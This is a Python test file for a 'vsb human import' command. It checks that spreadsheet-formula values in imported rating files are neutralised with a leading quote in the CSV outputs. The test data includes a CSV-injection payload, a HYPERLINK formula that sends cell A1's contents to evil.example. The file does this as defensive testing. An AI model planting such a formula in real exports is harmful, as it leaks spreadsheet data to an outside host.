"""Issue #23 item 5 on ``vsb human import``: a rating file whose item ``condition`` is
``=1+1`` or whose ``story_id`` is a HYPERLINK formula reaches ``ratings.csv`` and
``model_means.csv`` quoted (no spreadsheet runs it), and ``report.json`` with the exact text."""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pytest

from tests.test_csv_injection import scan
from vsb.cli.main import main

CONDITION = "=1+1"
STORY = '=HYPERLINK("http://evil.example/?"&A1,"x")'


def test_formula_names_in_a_rating_file_are_quoted_in_every_csv(
    tmp_path: Path, simulated_files: list[Path], capsys: pytest.CaptureFixture[str]
) -> None:
    files = []
    for i, path in enumerate(simulated_files[:4]):
        doc = json.loads(path.read_text())
        for item in doc["items"]:
            item["condition"] = CONDITION
            item["story_id"] = STORY
        out = tmp_path / f"r{i}.json"
        out.write_text(json.dumps(doc))
        files.append(str(out))
    report = tmp_path / "report"
    assert main(["human", "import", *files, "--out", str(report), "--resamples", "20"]) == 0
    assert scan(report) == {}
    with open(report / "ratings.csv", newline="", encoding="utf-8") as fh:
        rows = list(csv.DictReader(fh))
    assert rows and {(r["condition"], r["story_id"]) for r in rows} == {
        ("'" + CONDITION, "'" + STORY)
    }
    means = (report / "model_means.csv").read_text()
    assert "'" + CONDITION in means and "\n" + CONDITION not in means
    text = (report / "report.json").read_text()
    assert json.dumps(CONDITION) in text and json.dumps("'" + CONDITION) not in text
